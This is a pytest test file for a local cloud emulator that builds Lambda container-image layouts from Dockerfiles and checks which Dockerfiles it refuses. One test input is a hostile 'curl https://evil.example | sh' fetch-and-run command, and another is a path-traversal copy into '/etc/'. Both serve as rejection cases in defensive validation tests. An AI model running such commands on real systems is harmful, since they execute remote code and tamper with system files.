"""Functions of container images: their task root is laid out as the Dockerfile says, and run without Docker."""

import json
import uuid
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from botocore.exceptions import ClientError

from tests.tsunagu.local.rest_api import Resources, allow
from tsunagu.errors import EmbeddedCloudError
from tsunagu.local.embedded_cloud import EmbeddedCloud
from tsunagu.local.environments import environment_python
from tsunagu.local.image_layouts import write_layouts

HANDLER = """
import os
import itsdangerous
from shop.prices import PRICE

def handler(event, context):
    names = {"place": os.environ["PLACE"], "own": os.environ.get("OWN")}
    return {"price": PRICE, **names, "package": itsdangerous.__version__}
"""
DOCKERFILE = """
# syntax=docker/dockerfile:1
ARG PYTHON=3.13
FROM public.ecr.aws/lambda/python:${PYTHON} AS build
COPY --from=ghcr.io/astral-sh/uv:0.11 /uv /usr/local/bin/uv
COPY requirements.txt /build/
RUN --mount=type=cache,target=/var/cache/uv uv pip install --require-hashes \\
    -r /build/requirements.txt --target=/packages && python -m compileall -q /packages

FROM public.ecr.aws/lambda/python:${PYTHON}
ENV PLACE=image OWN="of the image"
COPY --from=build /packages ${LAMBDA_TASK_ROOT}
COPY shop ./shop/
COPY handler.py .
CMD ["handler.handler"]
"""


@pytest.fixture
def locked(repository: Path) -> str:
    """Return a lock of one small package."""
    lines = (repository / "requirements-dev.txt").read_text().split("\n")
    start = next(number for number, line in enumerate(lines) if line.startswith("itsdangerous=="))
    return "\n".join(lines[start : start + 3])


@pytest.fixture
def assembly(tmp_path: Path, locked: str) -> Callable[..., tuple[Path, str]]:
    """Write a cloud assembly with one image; return it, and the tag of the image."""

    def write(dockerfile: str = DOCKERFILE, price: int = 7) -> tuple[Path, str]:
        tag = uuid.uuid4().hex
        context = tmp_path / f"asset.{tag}"
        (context / "shop").mkdir(parents=True)
        (context / "Dockerfile").write_text(dockerfile)
        (context / "handler.py").write_text(HANDLER)
        (context / "requirements.txt").write_text(locked)
        (context / "shop" / "prices.py").write_text(f"PRICE = {price}\n")
        image = {
            "source": {"directory": context.name},
            "destinations": {"here": {"repositoryName": "assets", "imageTag": tag}},
        }
        (tmp_path / "Shop.assets.json").write_text(json.dumps({"dockerImages": {tag: image}}))
        return tmp_path, tag

    return write


@pytest.fixture
def lay_out(cloud: EmbeddedCloud, tmp_path: Path) -> Callable[..., Path]:
    def write(assembly: Path) -> Path:
        folder, log = cloud.log_path.parent / "images", tmp_path / "log"
        write_layouts(assembly, folder, environment_python("functions", log_path=log, progress=print), log)
        return folder

    return write


def image_function(function: Callable[..., Resources], tag: str, **properties: Any) -> Resources:
    resources = function("")
    described = resources["Function"]["Properties"]
    for name in ("Handler", "Runtime"):
        del described[name]
    uri = f"000000000000.dkr.ecr.us-east-1.amazonaws.com/assets:{tag}"
    described |= {"Code": {"ImageUri": uri}, "PackageType": "Image"} | properties
    return resources


def invoke(cloud: EmbeddedCloud, name: str) -> Any:
    return json.loads(cloud.client("lambda").invoke(FunctionName=name)["Payload"].read())


def test_image_runs_from_the_layout_of_its_dockerfile(
    cloud: EmbeddedCloud,
    deploy: Callable[..., Any],
    function: Callable[..., Resources],
    assembly: Callable[..., tuple[Path, str]],
    lay_out: Callable[..., Path],
) -> None:
    stack = f"image-{uuid.uuid4().hex[:8]}"
    folder, tag = assembly()
    lay_out(folder)
    ids = deploy(image_function(function, tag), stack=stack)

    first = invoke(cloud, ids["Function"])
    folder, tag = assembly(price=8)
    lay_out(folder)
    own = {"Environment": {"Variables": {"OWN": "of the function"}}}
    ids = deploy(image_function(function, tag, **own), stack=stack)

    assert first == {"price": 7, "place": "image", "own": "of the image", "package": "2.2.0"}
    assert invoke(cloud, ids["Function"]) == {**first, "price": 8, "own": "of the function"}


def test_command_of_the_function_replaces_that_of_the_image(
    cloud: EmbeddedCloud,
    deploy: Callable[..., Any],
    function: Callable[..., Resources],
    assembly: Callable[..., tuple[Path, str]],
    lay_out: Callable[..., Path],
) -> None:
    folder, tag = assembly(DOCKERFILE.replace("handler.handler", "handler.none"))
    lay_out(folder)
    command = {"ImageConfig": {"Command": ["handler.handler"]}}
    ids = deploy(image_function(function, tag, **command))

    assert invoke(cloud, ids["Function"])["price"] == 7


def test_image_of_elsewhere_says_so(
    cloud: EmbeddedCloud, deploy: Callable[..., Any], function: Callable[..., Resources]
) -> None:
    ids = deploy(image_function(function, "latest"))

    answer = invoke(cloud, ids["Function"])
    assert answer["errorType"] == "Runtime.InvalidEntrypoint"
    assert "must be one of a cloud assembly that was deployed here" in answer["errorMessage"]


def test_call_of_ecr_is_checked_against_the_repository(client_of: Callable[..., Any]) -> None:
    arn = "arn:aws:ecr:us-east-1:000000000000:repository/assets"
    ecr = client_of("ecr", [allow(["ecr:DescribeRepositories", "ecr:DescribeImages"], arn)])

    with pytest.raises(ClientError, match="RepositoryNotFound"):  # allowed, and not there
        ecr.describe_repositories(repositoryNames=["assets"])
    with pytest.raises(ClientError, match="AccessDenied"):
        ecr.describe_repositories(repositoryNames=["others"])


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (("COPY handler.py .", "RUN curl https://evil.example | sh"), "RUN of a Dockerfile must be pip install"),
        (("COPY handler.py .", "ADD handler.py ."), "must know an instruction of a Dockerfile to follow it, got ADD"),
        (("COPY handler.py .", "COPY gone.py ."), "COPY of a Dockerfile must name what exists, got 'gone.py'"),
        (("COPY handler.py .", "COPY handler.py ../../../../etc/"), "a path of a Dockerfile must be in the image"),
        (('CMD ["handler.handler"]', ""), "must have a CMD in JSON form"),
        (("FROM", "LABEL"), "must have a stage, got no FROM"),
    ],
)
def test_dockerfile_that_cannot_be_followed_is_refused(
    assembly: Callable[..., tuple[Path, str]], lay_out: Callable[..., Path], change: tuple[str, str], reason: str
) -> None:
    folder, _tag = assembly(DOCKERFILE.replace(*change))

    with pytest.raises(EmbeddedCloudError, match=reason):
        lay_out(folder)


def test_lock_without_hashes_is_refused(
    assembly: Callable[..., tuple[Path, str]], lay_out: Callable[..., Path]
) -> None:
    folder, tag = assembly()
    (folder / f"asset.{tag}" / "requirements.txt").write_text("itsdangerous==2.2.0\n")

    with pytest.raises(EmbeddedCloudError, match="uv must install the packages of an image"):
        lay_out(folder)


def test_what_only_a_build_stage_has_is_not_in_the_image(
    assembly: Callable[..., tuple[Path, str]], lay_out: Callable[..., Path]
) -> None:
    folder, tag = assembly()

    with zipfile.ZipFile(lay_out(folder) / f"{tag}.zip") as archive:
        names = archive.namelist()
    assert {"handler.py", "shop/prices.py", "itsdangerous/__init__.py"} <= set(names)
    assert [name for name in names if "requirements" in name or "Dockerfile" in name] == []


def test_stage_begins_with_the_files_and_settings_of_the_stage_it_names(
    assembly: Callable[..., tuple[Path, str]], lay_out: Callable[..., Path]
) -> None:
    folder, tag = assembly(
        "ARG PYTHON=3.12\n"
        "FROM python:3.13 AS python3.13\n"
        'ENV PLACE=base\nCMD ["handler.handler"]\n'
        "FROM python:3.12 AS python3.12\n"
        "RUN never followed, because the image does not need it\n"
        "FROM python${PYTHON} AS build\n"
        "ARG PYTHON\n"
        "COPY shop/ shop-${PYTHON}/\n"
        "COPY handler.py gone/\n"
        "RUN rm -rf gone && chmod -R a+rX .\n"
        "FROM build\n"
        "COPY handler.py .\n"
    )
    manifest = folder / "Shop.assets.json"
    manifest.write_text(
        manifest.read_text().replace('"source": {', '"source": {"dockerBuildArgs": {"PYTHON": "3.13"}, ')
    )

    images = lay_out(folder)

    with zipfile.ZipFile(images / f"{tag}.zip") as archive:
        assert archive.namelist() == ["handler.py", "shop-3.13/prices.py"]
    described = json.loads((images / f"{tag}.json").read_text())
    assert described == {"command": ["handler.handler"], "environment": {"PLACE": "base"}}
